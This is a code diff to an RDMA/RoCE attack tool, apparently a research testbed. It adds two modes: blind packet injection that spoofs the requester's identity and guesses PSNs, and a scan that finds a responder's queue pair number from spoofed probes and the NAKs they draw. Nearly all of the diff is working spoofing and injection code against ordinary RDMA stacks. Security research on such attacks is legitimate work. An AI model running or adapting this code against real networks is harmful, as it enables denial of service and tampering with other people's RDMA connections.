@@ -19,6 +19,15 @@ pub enum AttackKind {
     /// Error NAKs toward the requester with the PSN and MSN an on-path attacker reads off the
     /// responder's last ACK.
     NakOnPath,
+    /// Blind injection: invalid requests from the requester's full identity (addresses and
+    /// UDP port, known to anyone on the segment; the QPN, as ReDMArk assumes, predictable)
+    /// with guessed PSNs, never the sniffed one. One in 2^24 lands at the expected PSN.
+    PsnGuess,
+    /// Find the responder's QPN without reading it off the wire: requests from the
+    /// requester's full identity to QPN `--from`, `--from`+1, ... with a PSN far ahead; the
+    /// one live QP answers with a PSN-sequence-error NAK (rxe's QPNs start at 0x11 and count
+    /// up; uroce's are random in 24 bits).
+    QpnScan,
     /// Only watch: the QPNs and R_Keys seen, for prediction.
     Observe,
 }
@@ -35,15 +44,44 @@ pub struct AttackArgs {
     /// How the forged frames claim their source (kill-qp).
     #[arg(long, value_enum, default_value = "full")]
     spoof: Spoof,
-    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256).
+    /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256, psn-guess
+    /// 100000; qpn-scan: QPNs to try, default 4096).
     #[arg(long)]
     count: Option<u64>,
+    /// qpn-scan: the first QPN tried (rxe's first is 0x11).
+    #[arg(long, default_value = "0x11", value_parser = parse_qpn)]
+    from: u32,
+    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes.
+    #[arg(long, default_value_t = 2000)]
+    probe_us: u64,
     /// Seconds to wait for a connection to learn.
     #[arg(long, default_value_t = 20)]
     learn_timeout: u64,
     /// Milliseconds to watch the connection after the attack before judging it.
     #[arg(long, default_value_t = 500)]
     watch_ms: u64,
+}
+
+fn parse_qpn(v: &str) -> Result<u32, String> {
+    let n = match v.strip_prefix("0x") {
+        Some(h) => u32::from_str_radix(h, 16),
+        None => v.parse(),
+    };
+    n.ok().filter(|&q| q < 1 << 24).ok_or_else(|| format!("`{v}` is not a 24-bit QPN"))
+}
+
+/// PSN-sequence-error NAKs the learner has seen from the responder.
+fn seq_naks(l: &Learner) -> u64 {
+    l.l.naks.get("PsnSequenceError").copied().unwrap_or(0)
+}
+
+/// Keep draining into the learner for `d`.
+fn settle(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8], d: Duration) -> Result<()> {
+    let until = Instant::now() + d;
+    while Instant::now() < until {
+        drain(sock, learner, buf)?;
+    }
+    Ok(())
 }
 
 /// Drain everything that arrived (without waiting) into the learner: a backlog would leave
@@ -70,6 +108,8 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let (req, resp) = (learner.l.requester.expect("ready"), learner.l.responder.expect("ready"));
     let mut buf = vec![0u8; 65536];
     let mut sent = 0u64;
+    // qpn-scan: (the QPN that answered, QPNs tried)
+    let mut scan: Option<(Option<u32>, u32)> = None;
     let t0 = Instant::now();
     match a.kind {
         AttackKind::KillQp => {
@@ -143,6 +183,68 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 sent += 1;
             }
         }
+        AttackKind::PsnGuess => {
+            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
+            let ext = ExtHeaders {
+                reth: Some(RethRepr { va: reth.va, rkey: reth.rkey.wrapping_add(0x1000_0000), dma_len: 8 }),
+                ..ExtHeaders::default()
+            };
+            let fatal = |l: &Learner| l.l.naks.get("RemoteAccessError").copied().unwrap_or(0);
+            let fatal_before = fatal(&learner);
+            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
+            for i in 0..a.count.unwrap_or(100_000) {
+                if i % 64 == 0 {
+                    drain(&sock, &mut learner, &mut buf)?;
+                    if fatal(&learner) > fatal_before {
+                        break;
+                    }
+                }
+                let psn = Psn::new(rng.next_u64() as u32 & 0xff_ffff);
+                let f =
+                    attack::forge((req.mac, req.sport), &req, &resp, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0xa5; 8]);
+                sock.send(&f)?;
+                sent += 1;
+            }
+        }
+        AttackKind::QpnScan => {
+            let probe = |q: u32, l: &Learner| {
+                // far ahead of the live QP's expected PSN: out of sequence, answered with a NAK
+                let psn = l.l.psn.expect("ready").add(1 << 22);
+                let to = attack::End { qpn: Some(q), ..resp };
+                let ext = ExtHeaders { reth: Some(RethRepr { va: 0, rkey: 0, dma_len: 8 }), ..ExtHeaders::default() };
+                attack::forge((req.mac, req.sport), &req, &to, Opcode::RC_RDMA_WRITE_ONLY, psn, ext, &[0x5a; 8])
+            };
+            let wait = Duration::from_micros(a.probe_us);
+            let count = u64::from(a.count.map_or(4096, |c| c.min(1 << 24) as u32));
+            let mut found = None;
+            let mut q = a.from;
+            let end = (u64::from(a.from) + count).min(1 << 24) as u32;
+            'scan: while q < end {
+                let batch: Vec<u32> = (q..end.min(q + 16)).collect();
+                q += batch.len() as u32;
+                let before = seq_naks(&learner);
+                for &c in &batch {
+                    sock.send(&probe(c, &learner))?;
+                    sent += 1;
+                }
+                settle(&sock, &mut learner, &mut buf, wait)?;
+                if seq_naks(&learner) == before {
+                    continue;
+                }
+                // a NAK after this batch (or a late one for the last): which QPN, one at a time
+                for &c in &batch {
+                    let before = seq_naks(&learner);
+                    sock.send(&probe(c, &learner))?;
+                    sent += 1;
+                    settle(&sock, &mut learner, &mut buf, wait * 4)?;
+                    if seq_naks(&learner) > before {
+                        found = Some(c);
+                        break 'scan;
+                    }
+                }
+            }
+            scan = Some((found, q - a.from));
+        }
         AttackKind::Observe => {}
     }
     let attack_time = t0.elapsed();
@@ -157,6 +259,12 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let naks: Vec<String> = l.naks.iter().map(|(k, v)| format!("{k}={v}")).collect();
     let outcome = if a.kind == AttackKind::Observe {
         "observed"
+    } else if let Some((found, _)) = scan {
+        if found.is_some() {
+            "found"
+        } else {
+            "not-found"
+        }
     } else if moved_req > 0 && moved_ack > 0 {
         "survived"
     } else {
@@ -165,7 +273,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     println!(
         "uroce-attack: kind={:?} spoof={:?} sent={sent} in_ms={} outcome={outcome} requests_after={moved_req} \
          acks_after={moved_ack} during=({}/{}) responder_naks=[{}] requester={}:{:#x} qp={:#08x} \
-         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}",
+         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}{}",
         a.kind,
         a.spoof,
         attack_time.as_millis(),
@@ -179,7 +287,12 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
         resp.sport,
         resp.qpn.unwrap_or(0),
         l.qpns,
-        l.rkeys
+        l.rkeys,
+        scan.map_or(String::new(), |(f, tried)| format!(
+            " scan_from={:#08x} scan_tried={tried} found_qp={}",
+            a.from,
+            f.map_or("-".to_string(), |q| format!("{q:#08x}"))
+        ))
     );
     Ok(ExitCode::SUCCESS)
 }
